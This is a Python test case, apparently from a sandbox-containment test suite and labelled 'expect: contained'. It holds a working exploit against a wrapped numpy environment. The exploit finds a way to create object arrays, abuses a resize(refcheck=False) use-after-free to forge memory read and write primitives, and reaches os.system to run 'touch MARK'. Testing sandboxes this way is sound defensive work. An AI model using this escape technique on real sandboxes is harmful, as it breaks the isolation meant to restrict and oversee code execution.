# class: numpy_raw_memory
# expect: contained
# attack: gets an array of Python objects past a wrapped np (ndarray.astype('O'), astype to an object record, Generator.permutation/choice over None, np.array/np.full/np.where with None), then uses the first that works in a resize(refcheck=False) use-after-free to import os
rng = np.random.default_rng(1)
routes = [
    lambda n: np.zeros(n).astype("O"),
    lambda n: np.zeros(n).astype("object"),
    lambda n: np.zeros(n).astype([("o", "O")])["o"],
    lambda n: rng.permutation([None] * n),
    lambda n: rng.choice([None, "x"], size=n),
    lambda n: np.array([None] * n),
    lambda n: np.full(n, None),
    lambda n: np.where(np.ones(n, dtype=bool), None, 0),
    lambda n: np.concatenate([np.zeros(n).astype("O")]),
]
keep = []


def first_working(n):
    for i in range(len(routes)):
        try:
            made = routes[i](n)
            if made.dtype.kind == "O" and made.shape == (n,):
                print("object array from route", i)
                return routes[i]
        except Exception as exc:
            print("route", i, "refused:", str(exc)[:60])
    return None


make_objects = first_working(256)
if make_objects is not None:
    template = make_objects(256)
    pair = None
    for attempt in range(60):
        owner = np.zeros(256, dtype=np.int64)
        ints = owner[:]
        owner.resize(4096, refcheck=False)
        owner[0] = 12345
        keep.append(owner)
        if ints[0] == 12345:
            continue
        objects = template.copy()  # one allocation: the block just freed
        marker = (1, 2)
        for i in range(256):
            objects[i] = marker
        keep.append(objects)
        first = int(ints[0])
        if first != 0 and all(int(ints[i]) == first for i in range(256)):
            pair = (ints, objects)
            break
    if pair is not None:
        ints, objects = pair

        def address_of(thing):
            objects[1] = thing
            return int(ints[1])

        def object_at(address):
            ints[2] = address
            found = objects[2]
            ints[2] = 0
            return found

        text = ""
        for value in (1 << 40, address_of(list), 1, address_of(Pose.copy) + 24, 1):
            text += "".join(chr((value >> (8 * k)) & 255) for k in range(8))
        fake = text.encode("latin-1")
        keep.append(fake)
        real = object_at(address_of(fake) + 32)[0]
        if isinstance(real, dict) and "__import__" in real:
            real["getattr"](real["__import__"]("os"), "system")("touch MARK")
    else:
        print("no aliasing")
